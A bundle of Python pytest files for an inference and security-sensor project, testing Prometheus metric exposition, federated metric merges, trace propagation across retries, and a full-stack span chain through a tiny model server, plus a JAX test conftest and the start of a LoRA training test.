    assert bd["fast"]["p50_ms"] < bd["fast"]["p99_ms"]
    assert bd["slow"]["total_ms"] > bd["fast"]["total_ms"]
    table = trace_lib.render_breakdown(bd)
    lines = table.splitlines()
    assert "stage" in lines[0] and "p99 ms" in lines[0]
    # sorted by total time: slow first
    assert lines[2].startswith("slow")
    assert any(l.startswith("fast") for l in lines)


# ---------------------------------------------------------------------------
# unit: metrics — exposition grammar, sliding rate
# ---------------------------------------------------------------------------
_SAMPLE_RE = re.compile(
    r"^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{([^}]*)\})? (\S+)$")
_LABEL_RE = re.compile(r'^([a-zA-Z_][a-zA-Z0-9_]*)="((?:[^"\\]|\\.)*)"$')


def _validate_exposition(text: str):
    """Assert `text` is valid Prometheus text exposition 0.0.4: grammar
    per line, HELP/TYPE before each family's samples, cumulative
    monotone histogram buckets ending at +Inf == _count, no NaN."""
    types = {}
    seen_families = set()
    hist_buckets = {}  # (family, frozen labels minus le) -> [counts]
    hist_counts = {}
    for ln in text.splitlines():
        if not ln:
            continue
        if ln.startswith("# HELP ") or ln.startswith("# TYPE "):
            parts = ln.split(" ", 3)
            assert len(parts) >= 3, f"bad comment line: {ln!r}"
            if ln.startswith("# TYPE "):
                assert parts[2] not in types, f"duplicate TYPE for {parts[2]}"
                assert parts[3] in ("counter", "gauge", "histogram", "summary")
                types[parts[2]] = parts[3]
            continue
        assert not ln.startswith("#"), f"unknown comment: {ln!r}"
        m = _SAMPLE_RE.match(ln)
        assert m, f"sample line fails grammar: {ln!r}"
        name, _, labelstr, value = m.groups()
        v = float(value)  # must parse
        assert not math.isnan(v), f"NaN sample: {ln!r}"
        labels = {}
        if labelstr:
            for pair in labelstr.split(","):
                lm = _LABEL_RE.match(pair)
                assert lm, f"bad label pair {pair!r} in {ln!r}"
                labels[lm.group(1)] = lm.group(2)
        # resolve the declared family this sample belongs to
        fam = None
        for cand, suffix in ((name, ""),
                             *((name[: -len(s)], s) for s in
                               ("_bucket", "_sum", "_count")
                               if name.endswith(s))):
            if cand in types:
                fam, sfx = cand, suffix
                break
        assert fam is not None, f"sample {name} has no TYPE declaration"
        if sfx in ("_bucket", "_sum", "_count") and sfx:
            assert types[fam] == "histogram", \
                f"{name}: histogram suffix on {types[fam]} family"
        seen_families.add(fam)
        if types[fam] == "histogram" and name.endswith("_bucket"):
            assert "le" in labels, f"bucket without le: {ln!r}"
            key = (fam, tuple(sorted((k, lv) for k, lv in labels.items()
                                     if k != "le")))
            prev = hist_buckets.setdefault(key, [])
            assert v == int(v) and v >= (prev[-1][1] if prev else 0), \
                f"non-monotone bucket: {ln!r}"
            prev.append((labels["le"], v))
        elif types[fam] == "histogram" and name.endswith("_count"):
            key = (fam, tuple(sorted(labels.items())))
            hist_counts[key] = v
    for key, buckets in hist_buckets.items():
        assert buckets[-1][0] == "+Inf", f"{key}: last bucket not +Inf"
        if key in hist_counts:
            assert buckets[-1][1] == hist_counts[key], \
                f"{key}: +Inf bucket != _count"
    return seen_families


def test_exposition_validator_unit():
    m = Metrics()
    m.inc("events", 5)
    m.inc("events", 2, labels={"kind": "exec"})
    m.gauge("depth", 3, labels={"queue": "sched"})
    m.gauge('weird-name with spaces!', 1.0)
    m.observe("lat_s", 0.003)
    m.observe("lat_s", 0.2, labels={"cache": "hit"})
    m.observe("lat_s", 7.0, labels={"cache": 'va"l\\ue'})  # escaping
    text = m.render_prometheus()
    fams = _validate_exposition(text)
    assert "chronos_events" in fams
    assert "chronos_lat_s" in fams
    # name sanitizer: [a-zA-Z0-9_:] only
    assert "chronos_weird_name_with_spaces_" in fams
    assert 'cache="hit"' in text
    # label-value escaping survived
    assert 'cache="va\\"l\\\\ue"' in text


def test_exposition_no_nan_for_empty_series():
    m = Metrics()
    # a never-observed series still answers NaN via the API ...
    assert math.isnan(m.percentile("never_observed", 50))
    # ... but the exposition omits it instead of printing nan
    m.inc("something", 1)
    text = m.render_prometheus()
    assert "nan" not in text.lower()
    _validate_exposition(text)


class _FakeClock:
    def __init__(self, t=1000.0):
        self.t = t

    def __call__(self):
        return self.t


def test_sliding_window_rate_vs_lifetime():
    clk = _FakeClock(1000.0)
    m = Metrics(clock=clk)
    # 60 events across the first 30 s
    for i in range(30):
        clk.t = 1000.0 + i
        m.inc("ev", 2)
    clk.t = 1030.0
    # early life: window shrinks to uptime (30 s), not underreported
    assert m.rate("ev") == pytest.approx(2.0, rel=0.05)
    # a long idle gap: sliding rate decays to zero, lifetime averages
    clk.t = 1600.0
    assert m.rate("ev") == 0.0
    assert m.rate_lifetime("ev") == pytest.approx(60 / 600.0, rel=0.01)
    # burst after the idle night must READ as a burst (the whole point)
    clk.t = 1700.0
    m.inc("ev", 120)
    clk.t = 1705.0
    assert m.rate("ev") == pytest.approx(120 / 60.0, rel=0.05)
    assert m.rate("ev") > m.rate_lifetime("ev")


def test_ttft_labels_aggregate_for_unlabeled_readers():
    m = Metrics()
    m.observe("ttft_s", 0.010, labels={"cache": "hit"})
    m.observe("ttft_s", 0.200, labels={"cache": "miss"})
    # label-free percentile merges across label sets (BASELINE back-compat)
    assert m.percentile("ttft_s", 0) == pytest.approx(0.010)
    assert m.percentile("ttft_s", 100) == pytest.approx(0.200)
    snap = m.snapshot()
    assert snap["ttft_s_count"] == 2
    assert snap['ttft_s{cache="hit"}_count'] == 1
    text = m.render_prometheus()
    _validate_exposition(text)
    assert 'chronos_ttft_s_bucket{cache="hit",le="0.01"} 1' in text
    assert 'chronos_ttft_s_count{cache="miss"} 1' in text


def test_exposition_covers_spec_metrics():
    """The speculative-decoding family (per-proposer counters, accept
    -rate histogram, tokens-per-step gauge) must render as valid
    exposition exactly as the scheduler emits it."""
    m = Metrics()
    m.inc("spec_drafted_tokens_total", 8, labels={"proposer": "ngram"})
    m.inc("spec_accepted_tokens_total", 5, labels={"proposer": "ngram"})
    m.inc("spec_drafted_tokens_total", 3, labels={"proposer": "grammar"})
    m.inc("spec_accepted_tokens_total", 3, labels={"proposer": "grammar"})
    m.observe("spec_accept_rate", 5 / 8, labels={"proposer": "ngram"})
    m.observe("spec_accept_rate", 1.0, labels={"proposer": "grammar"})
    m.gauge("spec_tokens_per_step", 2.5)
    text = m.render_prometheus()
    fams = _validate_exposition(text)
    assert "chronos_spec_drafted_tokens_total" in fams
    assert "chronos_spec_accepted_tokens_total" in fams
    assert "chronos_spec_accept_rate" in fams
    assert "chronos_spec_tokens_per_step" in fams
    assert 'chronos_spec_drafted_tokens_total{proposer="ngram"} 8' in text
    assert 'chronos_spec_accepted_tokens_total{proposer="grammar"} 3' in text
    # label-free aggregate for unlabeled dashboards
    snap = m.snapshot()
    assert snap["spec_drafted_tokens_total"] == 11
    assert snap["spec_accepted_tokens_total"] == 8


def test_exposition_covers_fleet_metrics():
    """The fleet-router family (per-backend membership gauge, routed
    counters with routing-reason label, spill-over counter) must render
    as valid exposition exactly as the router emits it."""
    m = Metrics()
    m.gauge("fleet_backend_up", 1, labels={"backend": "r0"})
    m.gauge("fleet_backend_up", 0, labels={"backend": "r1"})
    m.inc("routed_requests_total", 7,
          labels={"backend": "r0", "reason": "affinity"})
    m.inc("routed_requests_total", 2,
          labels={"backend": "r0", "reason": "rebalance"})
    m.inc("routed_requests_total", 3,
          labels={"backend": "r1", "reason": "spill"})
    m.inc("router_spillovers_total", 3)
    m.observe("router_route_s", 0.012, labels={"reason": "affinity"})
    text = m.render_prometheus()
    fams = _validate_exposition(text)
    assert "chronos_fleet_backend_up" in fams
    assert "chronos_routed_requests_total" in fams
    assert "chronos_router_spillovers_total" in fams
    assert 'chronos_fleet_backend_up{backend="r0"} 1' in text
    assert 'chronos_fleet_backend_up{backend="r1"} 0' in text
    assert ('chronos_routed_requests_total'
            '{backend="r0",reason="affinity"} 7') in text
    assert ('chronos_routed_requests_total'
            '{backend="r1",reason="spill"} 3') in text
    assert "chronos_router_spillovers_total 3" in text
    # label-free aggregate for unlabeled dashboards
    snap = m.snapshot()
    assert snap["routed_requests_total"] == 12


def test_exposition_covers_perfplane_metrics():
    """The introspection-plane family (ISSUE 19: per-phase profiler
    histograms + gauges, per-entry compile counters) must render as
    valid exposition exactly as obs/perf.py emits it — including
    through the federated /fleet/metrics merge."""
    from chronos_trn.obs.federation import merge_expositions
    from chronos_trn.utils.metrics import METRIC_FAMILIES

    # every family obs/perf.py emits is in the CHR008 catalogue
    for fam in ("profile_host_build_s", "profile_dispatch_s",
                "profile_device_s", "profile_samples_total",
                "profile_tokens_per_s", "profile_dispatch_queue_depth",
                "compile_events_total", "compile_seconds_total"):
        assert fam in METRIC_FAMILIES, fam

    m = Metrics()
    for phase, (h, d, c) in (("decode", (0.0002, 0.0005, 0.004)),
                             ("prefill", (0.001, 0.002, 0.030))):
        labels = {"phase": phase}
        m.observe("profile_host_build_s", h, labels=labels)
        m.observe("profile_dispatch_s", d, labels=labels)
        m.observe("profile_device_s", c, labels=labels)
        m.inc("profile_samples_total", labels=labels)
    m.gauge("profile_tokens_per_s", 412.5, labels={"phase": "decode"})
    m.gauge("profile_dispatch_queue_depth", 63.0,
            labels={"phase": "decode"})
    m.inc("compile_events_total", labels={"entry": "prefill"})
    m.inc("compile_seconds_total", 1.7, labels={"entry": "prefill"})
    text = m.render_prometheus()
    fams = _validate_exposition(text)
    assert "chronos_profile_device_s" in fams
    assert "chronos_profile_samples_total" in fams
    assert "chronos_profile_tokens_per_s" in fams
    assert "chronos_compile_events_total" in fams
    assert 'chronos_profile_samples_total{phase="decode"} 1' in text
    assert 'chronos_compile_events_total{entry="prefill"} 1' in text
    assert 'chronos_profile_tokens_per_s{phase="decode"} 412.5' in text

    # federated scrape: a replica's profiler samples gain the backend
    # label and the merge stays valid exposition
    router = Metrics()
    router.inc("router_generate_requests", 1)
    out = merge_expositions([
        (None, router.render_prometheus()),
        ("r0", text),
    ])
    fams = _validate_exposition(out)
    assert "chronos_profile_device_s" in fams
    assert ('chronos_profile_samples_total'
            '{backend="r0",phase="decode"} 1') in out
    assert ('chronos_compile_events_total'
            '{backend="r0",entry="prefill"} 1') in out


def test_exposition_covers_semcache_metrics():
    """The semantic triage cache family (ISSUE 20: lookup outcomes,
    insert/eviction counters, lookup latency, resident size) must
    render as valid exposition exactly as semcache/__init__.py emits
    it — including through the federated /fleet/metrics merge."""
    from chronos_trn.obs.federation import merge_expositions
    from chronos_trn.utils.metrics import METRIC_FAMILIES

    # every family the semcache emits is in the CHR008 catalogue
    for fam in ("semcache_lookups_total", "semcache_inserts_total",
                "semcache_evictions_total", "semcache_lookup_s",
                "semcache_size"):
        assert fam in METRIC_FAMILIES, fam

    m = Metrics()
    for outcome, n in (("hit", 3), ("miss", 5),
                       ("escalate_malicious", 1)):
        for _ in range(n):
            m.inc("semcache_lookups_total", labels={"outcome": outcome})
    m.inc("semcache_inserts_total", 6)
    m.inc("semcache_evictions_total", 2)
    m.observe("semcache_lookup_s", 0.0008)
    m.gauge("semcache_size", 4.0)
    text = m.render_prometheus()
    fams = _validate_exposition(text)
    assert "chronos_semcache_lookups_total" in fams
    assert "chronos_semcache_lookup_s" in fams
    assert "chronos_semcache_size" in fams
    assert 'chronos_semcache_lookups_total{outcome="hit"} 3' in text
    assert ('chronos_semcache_lookups_total'
            '{outcome="escalate_malicious"} 1') in text
    assert "chronos_semcache_size 4" in text

    # federated scrape: the replica's cache counters gain the backend
    # label and the merge stays valid exposition, so fleet-wide hit
    # rate is one PromQL sum away
    router = Metrics()
    router.inc("router_generate_requests", 1)
    out = merge_expositions([
        (None, router.render_prometheus()),
        ("r0", text),
    ])
    fams = _validate_exposition(out)
    assert "chronos_semcache_lookups_total" in fams
    assert ('chronos_semcache_lookups_total'
            '{backend="r0",outcome="hit"} 3') in out
    assert 'chronos_semcache_size{backend="r0"} 4' in out


def test_federated_exposition_passes_validator():
    """The obs-plane merge (router registry + N replica scrapes) must
    itself be valid exposition: every per-replica sample gains a
    ``backend`` label, each family keeps exactly ONE HELP/TYPE pair,
    histogram buckets stay cumulative per (family, labelset), NaN never
    appears."""
    from chronos_trn.obs.federation import merge_expositions

    local = Metrics()
    local.inc("router_generate_requests", 9)
    local.observe("router_route_s", 0.012)
    local.gauge("slo_burn", 0.4, labels={"slo": "spill_rate",
                                         "window": "5s"})
    # two replicas as SEPARATE registries (distinct processes): same
    # family names, different values — only the backend label may
    # distinguish them after the merge
    r0, r1 = Metrics(), Metrics()
    for m, (ttft, n) in ((r0, (0.010, 3)), (r1, (0.250, 5))):
        m.inc("http_generate_requests", n)
        m.observe("ttft_s", ttft, labels={"cache": "hit"})
        m.observe("ttft_s", ttft * 2)
    out = merge_expositions([
        (None, local.render_prometheus()),
        ("r0", r0.render_prometheus()),
        ("r1", r1.render_prometheus()),
    ])
    fams = _validate_exposition(out)
    assert "chronos_router_generate_requests" in fams
    assert "chronos_ttft_s" in fams
    assert "chronos_slo_burn" in fams
    # per-replica samples carry the backend label; local ones don't
    assert 'chronos_http_generate_requests{backend="r0"} 3' in out
    assert 'chronos_http_generate_requests{backend="r1"} 5' in out
    assert "chronos_router_generate_requests 9" in out
    assert ('chronos_ttft_s_count{backend="r0",cache="hit"} 1') in out
    # one TYPE declaration per family even though ttft_s arrived twice
    assert out.count("# TYPE chronos_ttft_s histogram") == 1
    assert "nan" not in out.lower()


def test_federated_exposition_drops_nan_and_type_conflicts():
    from chronos_trn.obs.federation import merge_expositions

    local = Metrics()
    local.inc("ok_total", 1)
    # a hand-rolled replica exposition: NaN sample + TYPE conflict
    replica = (
        "# TYPE chronos_ok_total gauge\n"       # conflicts with counter
        "chronos_ok_total 7\n"
        "# TYPE chronos_bad_s gauge\n"
        "chronos_bad_s NaN\n"
        "chronos_bad_s 0.5\n"
        "chronos_undeclared_total 2\n"          # no TYPE: synthesized
    )
    out = merge_expositions([
        (None, local.render_prometheus()),
        ("rX", replica),
    ])
    fams = _validate_exposition(out)
    assert "chronos_ok_total" in fams
    # the conflicting source's samples for that family were dropped
    assert 'chronos_ok_total{backend="rX"}' not in out
    assert "chronos_ok_total 1" in out
    # NaN dropped at the door; the finite sample survived, relabeled
    assert 'chronos_bad_s{backend="rX"} 0.5' in out
    assert 'chronos_undeclared_total{backend="rX"} 2' in out


def test_federated_exposition_no_duplicate_backend_label():
    """A family that already carries a backend label (the router's own
    routed_requests_total scraped back from an in-process replica) must
    not gain a second backend key, and exact duplicate series are
    emitted once."""
    from chronos_trn.obs.federation import merge_expositions

    m = Metrics()
    m.inc("routed_requests_total", 4, labels={"backend": "r0",
                                              "reason": "affinity"})
    text = m.render_prometheus()
    out = merge_expositions([(None, text), ("r0", text), ("r1", text)])
    _validate_exposition(out)
    line = 'chronos_routed_requests_total{backend="r0",reason="affinity"} 4'
    assert out.count(line) == 1
    assert 'backend="r0",backend=' not in out


# ---------------------------------------------------------------------------
# unit: structlog satellites
# ---------------------------------------------------------------------------
class _Capture(logging.Handler):
    def __init__(self):
        super().__init__()
        self.records = []

    def emit(self, record):
        self.records.append(record)


def _chronos_handler(logger):
    return next(h for h in logger.handlers
                if getattr(h, "_chronos_structlog", False))


def test_get_logger_honors_json_lines_on_repeat_calls():
    lg = get_logger("fmtflip_test", json_lines=True)
    assert isinstance(_chronos_handler(lg).formatter, JsonFormatter)
    # the old behavior silently kept the first caller's choice; now the
    # flag wins on every call
    lg2 = get_logger("fmtflip_test", json_lines=False)
    assert lg2 is lg
    assert not isinstance(_chronos_handler(lg).formatter, JsonFormatter)
    get_logger("fmtflip_test", json_lines=True)
    assert isinstance(_chronos_handler(lg).formatter, JsonFormatter)


def test_log_event_trace_id_passthrough_and_contextvar():
    lg = get_logger("trace_log_test")
    cap = _Capture()
    lg.addHandler(cap)
    try:
        log_event(lg, "explicit", trace_id="t" * 32, foo=1)
        t = Tracer(capacity=4)
        with t.start_span("op") as span:
            log_event(lg, "implicit")
        log_event(lg, "bare")
    finally:
        lg.removeHandler(cap)
    by_msg = {r.getMessage(): r.fields for r in cap.records}
    assert by_msg["explicit"]["trace_id"] == "t" * 32
    assert by_msg["explicit"]["foo"] == 1
    assert by_msg["implicit"]["trace_id"] == span.trace_id
    assert "trace_id" not in by_msg["bare"]
    # and the JSON formatter itself injects the contextvar id
    with t.start_span("fmt") as span2:
        rec = logging.LogRecord("chronos.x", logging.INFO, __file__, 1,
                                "hello", (), None)
        line = json.loads(JsonFormatter().format(rec))
    assert line["trace_id"] == span2.trace_id


# ---------------------------------------------------------------------------
# wire: traceparent propagation through retries and the spool
# ---------------------------------------------------------------------------
def _fast_cfg(**kw):
    defaults = dict(
        server_url="http://brain.test/api/generate",
        http_timeout_s=1.0,
        retry_max_attempts=3,
        retry_backoff_base_s=0.001,
        retry_backoff_cap_s=0.002,
        breaker_failure_threshold=99,
        breaker_open_duration_s=0.05,
        spool_drain_interval_s=0,
    )
    defaults.update(kw)
    return SensorConfig(**defaults)


def _fault_client(plan, **cfg_kw):
    cfg = _fast_cfg(**cfg_kw)
    transport = FaultTransport(plan, sleep=_NOSLEEP)
    client = AnalysisClient(
        cfg, transport=transport,
        breaker=CircuitBreaker(99, 1.0, metrics=Metrics()),
        sleep=_NOSLEEP,
    )
    return client, transport


def test_retry_resend_keeps_trace_id_with_new_span():
    plan = FaultPlan([Fault(HTTP_500)], default=Fault(OK))
    client, transport = _fault_client(plan)
    verdict = client.analyze(_CHAIN)
    assert verdict["verdict"] != "ERROR"
    tid = verdict["_trace_id"]
    assert len(transport.headers_seen) == 2  # original + one retry
    ctxs = [parse_traceparent(h.get(TRACEPARENT_HEADER))
            for h in transport.headers_seen]
    assert all(c is not None for c in ctxs)
    # retries continue the SAME trace with a FRESH span per attempt
    assert ctxs[0].trace_id == ctxs[1].trace_id == tid
    assert ctxs[0].span_id != ctxs[1].span_id
    spans = TRACER.spans(trace_id=tid)
    posts = [s for s in spans if s["name"] == "sensor.post"]
    assert [p["attrs"]["attempt"] for p in posts] == [0, 1]
    assert posts[0]["attrs"]["status"] == 500
    assert posts[1]["attrs"]["status"] == 200
    root = next(s for s in spans if s["name"] == "sensor.analyze")
    assert all(p["parent_id"] == root["span_id"] for p in posts)


def test_wire_level_traceparent_reaches_real_server():
    brain = FaultyBrainServer(
        FaultPlan([Fault(HTTP_500)], default=Fault(OK))).start()
    try:
        cfg = _fast_cfg(server_url=brain.url, http_timeout_s=5.0)
        client = AnalysisClient(
            cfg, breaker=CircuitBreaker(99, 1.0, metrics=Metrics()),
            sleep=_NOSLEEP,
        )
        verdict = client.analyze(_CHAIN)
    finally:
        brain.stop()
    assert verdict["verdict"] != "ERROR"
    assert len(brain.traceparents) == 2
    ctxs = [parse_traceparent(h) for h in brain.traceparents]
    assert all(c is not None for c in ctxs), brain.traceparents
    assert ctxs[0].trace_id == ctxs[1].trace_id == verdict["_trace_id"]
    assert ctxs[0].span_id != ctxs[1].span_id


def test_spool_drain_resend_reuses_trace_id():
    plan = FaultPlan(default=Fault(CONNECT_REFUSED))
    client, transport = _fault_client(plan, retry_max_attempts=1)
    mon = KillChainMonitor(client.cfg, client=client,
                           alert_fn=lambda s: None)
    mon.memory[7] = list(_CHAIN)
    mon._analyze_window(7)
    assert len(mon.spool) == 1
    first = parse_traceparent(
        transport.headers_seen[0].get(TRACEPARENT_HEADER))
    assert first is not None
    # brain recovers; the drain resend must continue the ORIGINAL trace
    plan.default = Fault(OK)
    assert mon.drain_spool() == 1
    resend = parse_traceparent(
        transport.headers_seen[-1].get(TRACEPARENT_HEADER))
    assert resend.trace_id == first.trace_id
    assert resend.span_id != first.span_id
    names = [s["name"] for s in TRACER.spans(trace_id=first.trace_id)]
    # the outage shows up as an explicit spool-wait stage
    assert "sensor.spool_wait" in names
    assert names.count("sensor.analyze") == 2  # original + replay


def test_disabled_global_tracer_still_stamps_headers():
    plan = FaultPlan(default=Fault(OK))
    client, transport = _fault_client(plan)
    was_enabled = TRACER.enabled
    before = len(TRACER)
    TRACER.enabled = False
    try:
        verdict = client.analyze(_CHAIN)
    finally:
        TRACER.enabled = was_enabled
    assert verdict["verdict"] != "ERROR"
    assert len(TRACER) == before  # nothing recorded ...
    ctx = parse_traceparent(
        transport.headers_seen[0].get(TRACEPARENT_HEADER))
    assert ctx is not None  # ... but propagation still works
    assert verdict["_trace_id"] == ctx.trace_id


# ---------------------------------------------------------------------------
# full stack: tiny model + scheduler + HTTP server + real sensor client
# ---------------------------------------------------------------------------
MCFG = ModelConfig.tiny()
CCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
ECFG = EngineConfig(
    max_batch_slots=4,
    prefill_buckets=(16, 32, 64),
    max_new_tokens=32,
    fused_decode=False,
    prefix_cache=True,       # second identical prompt => cache=hit TTFT
    prefix_cache_pages=32,
)


@pytest.fixture(scope="module")
def engine():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    return InferenceEngine(params, MCFG, CCFG, ECFG)


@pytest.fixture(scope="module")
def scheduler(engine):
    sched = Scheduler(engine, ByteTokenizer(vocab_size=MCFG.vocab_size), ECFG)
    sched.start()
    yield sched
    sched.stop()


@pytest.fixture(scope="module")
def model_server(scheduler):
    # ladder OFF: these tests assert the FULL span chain, and the
    # process-global decode p99 (polluted by slower model suites on CPU)
    # would otherwise push the ladder to trace_shed and delete the very
    # spans under test (stage behavior has its own tests in test_chaos)
    server = ChronosServer(
        ModelBackend(scheduler), ServerConfig(host="127.0.0.1", port=0),
        degrade_cfg=DegradeConfig(enabled=False),
    )
    server.start()
    yield f"http://127.0.0.1:{server.port}"
    server.stop()


@pytest.fixture(scope="module")
def traffic(model_server):
    """Two identical verdict requests through the REAL sensor client
    (second one hits the prefix cache), with server log lines captured."""
    cfg = SensorConfig(
        server_url=f"{model_server}/api/generate",
        http_timeout_s=120.0,
        retry_backoff_base_s=0.01,
        retry_backoff_cap_s=0.05,
        spool_drain_interval_s=0,
    )
    client = AnalysisClient(cfg)
    server_log = get_logger("server")
    cap = _Capture()
    server_log.addHandler(cap)
    try:
        v1 = client.analyze(_CHAIN)
        v2 = client.analyze(_CHAIN)
    finally:
        server_log.removeHandler(cap)
    return {"v1": v1, "v2": v2, "records": cap.records,
            "base": model_server}


def _spans_by_name(tid):
    by = {}
    for s in TRACER.spans(trace_id=tid):
        by.setdefault(s["name"], []).append(s)
    return by


def test_full_span_chain_over_the_wire(traffic):
    """ISSUE acceptance: client send -> server receive -> admission ->
    queue -> prefill (prefix-cache attrs) -> decode steps -> finish,
    all one trace, children nested in their parents' durations."""
    tid = traffic["v2"]["_trace_id"]
    by = _spans_by_name(tid)
    required = {"sensor.analyze", "sensor.post", "server.generate",
                "sched.queue_wait", "sched.admission", "sched.prefill",
                "sched.decode_step", "sched.detokenize", "sched.finish",
                "server.response_write"}
    assert required <= set(by), f"missing spans: {required - set(by)}"
    assert len(by["sched.decode_step"]) >= 1

    # one analyze may take several wire attempts (each a post/generate
    # pair in the SAME trace) — group scheduler spans per attempt
    root = by["sensor.analyze"][0]
    posts = {p["span_id"]: p for p in by["sensor.post"]}
    gens = {g["span_id"]: g for g in by["server.generate"]}
    for g in gens.values():
        # cross-boundary parenting came from the traceparent header
        assert g["parent_id"] in posts
        p = posts[g["parent_id"]]
        # cross-wire: the server span starts inside the client's post
        # span; its tail (final log line) may outlive the client read
        assert p["start"] <= g["start"]
        assert g["end"] <= p["end"] + 0.5
    for p in posts.values():
        assert p["parent_id"] == root["span_id"]
        assert root["start"] <= p["start"] and p["end"] <= root["end"]
    # every scheduler span is a child of one server.generate attempt and
    # nests strictly inside it (same process, same monotonic clock)
    sched_names = ["sched.queue_wait", "sched.admission", "sched.prefill",
                   "sched.decode_step", "sched.detokenize", "sched.finish"]
    for name in sched_names + ["server.response_write"]:
        for s in by[name]:
            assert s["parent_id"] in gens, name
            g = gens[s["parent_id"]]
            assert g["start"] <= s["start"] + 1e-9, name
            assert s["end"] <= g["end"] + 1e-9, name

    # prefix-cache attribution: request 1 missed, request 2 hit
    pf2 = by["sched.prefill"][0]["attrs"]
    assert pf2["cache"] == "hit" and pf2["cache_hit_tokens"] > 0
    assert pf2["cache_hit_tokens"] + pf2["cache_miss_tokens"] == \
        pf2["prompt_tokens"]
    pf1 = _spans_by_name(traffic["v1"]["_trace_id"])["sched.prefill"][0]
    assert pf1["attrs"]["cache"] == "miss"
    assert pf1["attrs"]["cache_hit_tokens"] == 0


def test_trace_id_lands_in_structlog_line(traffic):
    tid = traffic["v2"]["_trace_id"]
    hits = [r for r in traffic["records"]
            if getattr(r, "fields", {}).get("trace_id") == tid]
    assert hits, "no server log line carried the trace_id"
    assert any(r.getMessage() == "generate" for r in hits)
    # and the rendered JSON line carries it too
    line = json.loads(JsonFormatter().format(hits[0]))
    assert line["trace_id"] == tid


def test_debug_trace_endpoints(traffic):
    base = traffic["base"]
    tid = traffic["v2"]["_trace_id"]
    listing = requests.get(f"{base}/debug/traces", timeout=5).json()
    assert any(t["trace_id"] == tid for t in listing["traces"])
    one = requests.get(f"{base}/debug/trace?id={tid}", timeout=5).json()
    assert one["trace_id"] == tid
    assert {"server.generate", "sched.prefill"} <= \
        {s["name"] for s in one["spans"]}
    r = requests.get(f"{base}/debug/trace", timeout=5)
    assert r.status_code == 400
    r = requests.get(f"{base}/debug/trace?id={'f' * 32}", timeout=5)
    assert r.status_code == 404
    bd = requests.get(f"{base}/debug/breakdown", timeout=5).json()
    assert "sched.prefill" in bd["stages"]
    assert bd["stages"]["sched.prefill"]["count"] >= 2


def test_live_metrics_exposition_with_cache_split(traffic):
    text = requests.get(f"{traffic['base']}/metrics", timeout=5).text
    fams = _validate_exposition(text)
    assert "chronos_ttft_s" in fams
    # ISSUE acceptance: ttft split by prefix-cache outcome
    assert 'chronos_ttft_s_bucket{cache="hit"' in text
    assert 'chronos_ttft_s_bucket{cache="miss"' in text
    assert 'chronos_verdict_latency_s_count{outcome="clean"}' in text
    assert "# TYPE chronos_ttft_s histogram" in text
