"""Metrics: counters, gauges, duration percentiles, Prometheus render."""
import math

from chronos_trn.utils.metrics import Metrics


def test_counter_inc_and_snapshot():
    m = Metrics()
    m.inc("events")
    m.inc("events", 4)
    assert m.snapshot()["events"] == 5


def test_gauge_set_and_overwrite():
    m = Metrics()
    m.gauge("spool_depth", 7)
    assert m.get_gauge("spool_depth") == 7.0
    m.gauge("spool_depth", 3)  # gauges overwrite, not accumulate
    assert m.get_gauge("spool_depth") == 3.0
    assert m.get_gauge("missing", default=-1.0) == -1.0
    assert m.snapshot()["spool_depth"] == 3.0


def test_gauge_renders_in_prometheus():
    m = Metrics()
    m.gauge("breaker_state", 2)
    m.inc("retries", 9)
    rendered = m.render_prometheus()
    assert "chronos_breaker_state 2.0" in rendered
    assert "chronos_retries 9.0" in rendered


def test_counter_and_gauge_coexist_under_same_snapshot():
    m = Metrics()
    m.inc("x", 2)
    m.gauge("y", 1)
    snap = m.snapshot()
    assert snap["x"] == 2.0 and snap["y"] == 1.0


def test_percentile_export():
    m = Metrics()
    for v in range(1, 101):  # 0.01 .. 1.00
        m.observe("verdict_s", v / 100.0)
    snap = m.snapshot()
    assert snap["verdict_s_count"] == 100
    assert abs(snap["verdict_s_p50"] - 0.50) <= 0.02
    assert abs(snap["verdict_s_p99"] - 0.99) <= 0.02
    rendered = m.render_prometheus()
    assert "chronos_verdict_s_p50" in rendered
    assert "chronos_verdict_s_p99" in rendered
    assert "chronos_verdict_s_count 100" in rendered


def test_percentile_empty_is_nan():
    m = Metrics()
    assert math.isnan(m.percentile("never_observed", 50))


def test_duration_buffer_bounded():
    m = Metrics()
    for _ in range(10050):
        m.observe("d", 1.0)
    assert m.snapshot()["d_count"] == 10000
