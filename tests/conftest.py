"""Test config: force an 8-device virtual CPU mesh before jax imports.

SURVEY.md §4: model/kernel numerics and TP tests must run on CPU (no trn
hardware or root in CI).  The driver separately dry-runs the multi-chip
path via __graft_entry__.dryrun_multichip.
"""
import os

# The image pre-sets JAX_PLATFORMS=axon (real NeuronCores); tests must run
# on a virtual 8-device CPU mesh.  The axon plugin can override env vars at
# import, so also force via jax.config below.
# On-chip kernel tests: CHRONOS_TEST_NEURON=1 python -m pytest -m neuron
_ON_CHIP = os.environ.get("CHRONOS_TEST_NEURON") == "1"

if not _ON_CHIP:
    os.environ["JAX_PLATFORMS"] = "cpu"
    flags = os.environ.get("XLA_FLAGS", "")
    if "xla_force_host_platform_device_count" not in flags:
        os.environ["XLA_FLAGS"] = (
            flags + " --xla_force_host_platform_device_count=8"
        ).strip()

import jax  # noqa: E402

if not _ON_CHIP:
    jax.config.update("jax_platforms", "cpu")

import numpy as np  # noqa: E402
import pytest  # noqa: E402


@pytest.fixture
def rng():
    return np.random.default_rng(0)


@pytest.fixture(autouse=True)
def _global_tracer_guard():
    """The span ring is process-global and the replica degradation
    ladder sheds it under pressure (STAGE_TRACE_SHED).  A replica torn
    down mid-brownout in one test module must not leave tracing dark
    for every later module, so restore the enabled flag per test."""
    from chronos_trn.utils import trace as trace_lib

    enabled = trace_lib.GLOBAL.enabled
    yield
    trace_lib.GLOBAL.enabled = enabled
