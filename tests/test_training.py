"""LoRA training: adapters, optimizer, loss decreases, sharded step."""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import ModelConfig
from chronos_trn.core import model
from chronos_trn.parallel import mesh as mesh_lib
from chronos_trn.parallel import sharding
from chronos_trn.tokenizer.bpe import ByteTokenizer
from chronos_trn.training import data as data_lib
from chronos_trn.training import lora, optim, train

CFG = ModelConfig.tiny()


@pytest.fixture(scope="module")
def params():
    return model.init_params(CFG, jax.random.PRNGKey(0), dtype=jnp.float32)


def test_adapters_start_as_identity(params):
    adapters = lora.init_adapters(CFG, jax.random.PRNGKey(1), rank=4)
    merged = lora.merge_adapters(params, adapters)
